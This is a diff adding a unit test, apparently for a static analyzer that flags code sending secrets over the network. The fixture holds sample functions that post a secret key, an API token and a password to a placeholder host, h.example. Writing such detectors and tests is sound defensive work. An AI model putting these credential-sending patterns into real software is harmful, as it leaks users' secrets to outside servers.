@@ -498,3 +498,19 @@ def test_a_method_called_on_self_is_inlined_when_folding() -> None:
     )
     sent = next(f for f in result.facts if f.name == "urllib.request.urlopen")
     assert sent.args and sent.args[0] == "https://visit.read.example.com"
+
+
+def test_secrets_in_what_a_request_sends() -> None:
+    result = analyze(
+        "import requests, urllib.request\n"
+        "def a(secret_key):\n"
+        "    body = {'k': secret_key}\n"
+        "    requests.post('https://h.example/x', json=body)\n"
+        "def b(api_token):\n"
+        "    requests.get('https://h.example/x', headers={'t': api_token})\n"
+        "def c(self):\n"
+        "    req = urllib.request.Request('https://h.example/x', data=self.password)\n"
+        "    urllib.request.urlopen(req)\n"
+    )
+    sent = {(f.location.line, f.args) for f in result.facts if f.kind is FactKind.SECRET_SENT}
+    assert sent == {(4, ("secret_key",)), (9, ("password",))}
